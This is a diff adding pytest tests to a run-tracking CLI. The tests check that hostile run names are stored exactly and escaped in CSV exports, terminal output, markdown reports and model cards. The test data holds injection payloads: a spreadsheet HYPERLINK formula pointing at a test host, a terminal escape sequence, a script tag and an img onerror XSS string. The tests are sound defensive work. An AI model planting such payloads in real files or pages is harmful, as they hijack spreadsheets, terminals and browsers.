@@ -356,3 +356,67 @@ def test_a_locked_ledger_ends_at_a_signal_and_keeps_the_run_for_later(measured, 
     assert sorted(r["status"] for r in runs) == ["completed", "completed"]
     s = subprocess.run([measured.binary, "sync"], env=env, capture_output=True, text=True)
     assert "nothing was waiting" in s.stderr  # once
+
+
+# Names are data: stored exactly, escaped wherever they are shown.
+HOSTILE = {"project": "=HYPERLINK(\"http://x.test/?\"&A1,\"open\")",
+           "experiment": "<script>\x1b]0;pwned\x07",
+           "job": "-2+3", "tag": "note=@SUM(1)"}
+
+
+def _hostile_run(measured):
+    cmd = ["sh", "-c", "true # `</code><img src=x onerror=alert(1)>` | cell"]
+    p, r = measured.run(["--project", HOSTILE["project"], "--experiment", HOSTILE["experiment"],
+                         "--job", HOSTILE["job"], "--tag", HOSTILE["tag"], "--", *cmd])
+    assert p.returncode == 0, p.stderr
+    return r
+
+
+def test_names_are_stored_exactly(measured):
+    r = _hostile_run(measured)
+    (back,) = measured.wp_json("ls")
+    assert back["project"] == HOSTILE["project"] and back["experiment"] == HOSTILE["experiment"]
+    assert back["job"] == HOSTILE["job"] and back["tags"]["note"] == "@SUM(1)"
+
+
+def test_csv_exports_cannot_carry_a_formula(measured):
+    import csv
+    import io
+    _hostile_run(measured)
+    for fmt in ("csv", "codecarbon"):
+        p = measured.wp("export", "--format", fmt)
+        assert p.returncode == 0, p.stderr
+        rows = list(csv.reader(io.StringIO(p.stdout)))
+        assert len(rows) == 2
+        for cell in rows[1]:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a plain number may start so
+        cells = set(rows[1])
+        assert "'" + HOSTILE["project"] in cells, rows[1]
+        assert fmt == "codecarbon" or "'-2+3" in cells, rows[1]
+
+
+def test_terminal_output_never_replays_escape_sequences(measured):
+    _hostile_run(measured)
+    for args in (["ls"], ["show", "last"], ["summary", "--by", "experiment"]):
+        p = measured.wp(*args)
+        assert p.returncode == 0, p.stderr
+        assert "\x1b" not in p.stdout and "\x07" not in p.stdout, args
+        assert "\\x1B]0;pwned\\x07" in p.stdout, args
+
+
+def test_markdown_and_model_card_escape_names(measured):
+    _hostile_run(measured)
+    p = measured.wp("report", "--experiment", HOSTILE["experiment"], "--markdown", "-")
+    assert p.returncode == 0, p.stderr
+    assert "<script>" not in p.stdout and "&lt;script&gt;" in p.stdout
+    assert "\x1b" not in p.stdout
+    p = measured.wp("report", "last", "--markdown", "-")
+    assert p.returncode == 0, p.stderr
+    line = [l for l in p.stdout.splitlines() if "ran for" in l][0]
+    # the command's backtick cannot close its code span: a longer fence holds it
+    span = "``sh -c true # `</code><img src=x onerror=alert(1)>` | cell``"
+    assert line.startswith(span), line
+    assert "<img" not in p.stdout.replace(span, "")  # raw HTML only inside the code span
+    p = measured.wp("report", "last", "--model-card", "-")
+    assert p.returncode == 0 and "\x1b" not in p.stdout, p.stderr
